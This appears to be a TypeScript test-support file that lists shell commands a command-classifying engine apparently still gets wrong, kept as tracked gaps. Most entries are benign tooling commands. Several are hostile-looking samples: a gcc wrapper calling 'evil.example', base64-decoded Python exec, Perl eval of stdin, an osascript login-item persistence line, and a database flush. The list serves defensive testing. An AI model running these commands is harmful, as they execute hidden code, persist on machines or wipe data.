// Rows of the field tables that the engine still gets wrong, so that what is not covered stays in sight.
// A row that has been mended must leave this list: its test fails until it does.

export const GAPS: ReadonlySet<string> = new Set([
  "open -R dist/index.html",
  'osascript -e \'tell application "System Events" to make login item at end with properties {path:"/x.app"}\'',
  "python manage.py flush --noinput",
  "twurl -d 'status=hi' /1.1/statuses/update.json",
  'osascript -e \'tell application "Messages" to send "hi" to buddy "x"\'',
  "julia -e 'using Pkg; Pkg.add(\"DataFrames\")'",
  "perl -MLWP::Simple -e 'getprint(\"http://example.com\")'",
  "ruby -run -e httpd . -p 8000",
  "gcc -wrapper curl,https://evil.example x.c",
  "python3 -c \"exec(__import__('base64').b64decode('$X'))\"",
  "perl -e 'eval <STDIN>' < x",
  "eas build --platform ios",
  "hugo mod get -u",
  "travis restart 123",
  "freshclam",
  "ionic info",
  "rclone ls /tmp/data",
  "rclone copy ./a ./b",
]);
